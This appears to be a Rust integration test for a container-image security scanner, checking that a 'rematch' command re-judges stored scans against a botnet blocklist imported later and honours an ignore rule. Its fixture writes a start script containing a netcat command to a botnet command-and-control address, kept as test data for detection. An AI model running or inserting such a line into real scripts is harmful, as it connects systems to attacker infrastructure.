//! `assure rematch` brings stored scans up to date without reading an image: indicators found
//! at scan time meet a threat feed imported later, and the policy judges every image again
//! (its verdict, ignores and the `ImageScan` finding follow the new findings).

use assure_tests::data::{repo_root, test_data};
use assure_tests::fixture::{Entry, ImageSpec, LayerSpec, write_oci_layout};
use assure_tests::samples::C2;
use assure_tests::system::{assure_ok, db_import, scan_json};
use serde_json::Value;
use std::path::Path;

fn rematch(data: &Path, args: &[&str]) -> String {
    let mut all = vec!["rematch"];
    all.extend_from_slice(args);
    assure_ok(data, &all)
}

/// Every entry of the layer cache, to show a rematch leaves it as it was.
fn layer_cache(data: &Path) -> Vec<(Vec<u8>, Vec<u8>)> {
    let cache = assure_engine::Cache::open(data).unwrap();
    let tree = cache.sled().open_tree("layers").unwrap();
    tree.iter()
        .map(|kv| {
            let (k, v) = kv.unwrap();
            (k.to_vec(), v.to_vec())
        })
        .collect()
}

fn stored(data: &Path, category: &str) -> Vec<Value> {
    let out = assure_ok(
        data,
        &["findings", "--format", "json", "--category", category],
    );
    serde_json::from_str(&out).unwrap()
}

#[test]
fn a_feed_imported_after_the_scan_fails_the_image_on_rematch_and_an_ignore_passes_it_again() {
    let Some(shared) = test_data() else { return };
    let work = tempfile::tempdir().unwrap();
    let data = work.path().join("data");
    let layout = work.path().join("image");
    let spec = ImageSpec::new(vec![LayerSpec::new(vec![Entry::file_mode(
        "app/start.sh",
        0o755,
        format!("#!/bin/sh\nexec nc {C2} 1194\n"),
    )])]);
    write_oci_layout(&spec, &layout).unwrap();
    let first = scan_json(&data, &format!("oci:{}:latest", layout.display()));
    assert_eq!(first["verdict"]["passed"], true, "{:#}", first["verdict"]);
    // The image is gone: only what the scan stored is left to work with.
    std::fs::remove_dir_all(&layout).unwrap();

    let out = db_import(
        &data,
        &[&shared.join("blocklists/abusech-feodo/ipblocklist.csv")],
    );
    assert!(out.status.success());
    let layers = layer_cache(&data);
    assert_eq!(layers.len(), 1);
    let out = rematch(&data, &[]);
    assert_eq!(
        layer_cache(&data),
        layers,
        "rematch touched the layer cache"
    );
    assert!(
        out.contains(&format!("+ {C2} (botnet C2) at /app/start.sh")),
        "{out}"
    );
    assert!(out.contains("verdict now FAILED"), "{out}");
    let ip = stored(&data, "MaliciousIP");
    assert_eq!(ip.len(), 1, "{ip:#?}");
    assert_eq!(
        ip[0]["finding"]["layer"],
        first["image"]["layers"][0]["digest"]
    );
    assert_eq!(stored(&data, "ImageScan").len(), 1);

    // Judged again with a ruleset that ignores the address: the image passes, the finding is
    // kept as suppressed, and the ImageScan finding goes.
    let mut ruleset = std::fs::read_to_string(repo_root().join("engine/rules/default.yaml"))
        .unwrap()
        .replace("name: default", "name: accepted");
    ruleset.push_str(&format!(
        "ignores:\n  - id: \"{C2}\"\n    reason: Sinkholed by our resolver.\n    expires: 2099-01-01\n"
    ));
    let file = work.path().join("accepted.yaml");
    std::fs::write(&file, ruleset).unwrap();
    let out = rematch(&data, &["--ruleset", file.to_str().unwrap()]);
    assert!(out.contains("verdict now passed"), "{out}");
    assert!(stored(&data, "MaliciousIP").is_empty());
    assert!(stored(&data, "ImageScan").is_empty());
    let out = assure_ok(
        &data,
        &["findings", "--format", "json", "--include-suppressed"],
    );
    let all: Vec<Value> = serde_json::from_str(&out).unwrap();
    let ip = all
        .iter()
        .find(|r| r["finding"]["category"] == "MaliciousIP")
        .expect("the ignored finding is kept");
    assert_eq!(
        ip["finding"]["suppression"]["reason"],
        "Sinkholed by our resolver."
    );
    assert_eq!(ip["finding"]["ruleset"], "accepted");

    // Nothing new: nothing changes.
    let out = rematch(&data, &["--ruleset", file.to_str().unwrap()]);
    assert!(out.contains("0 appeared, 0 disappeared\n"), "{out}");
}
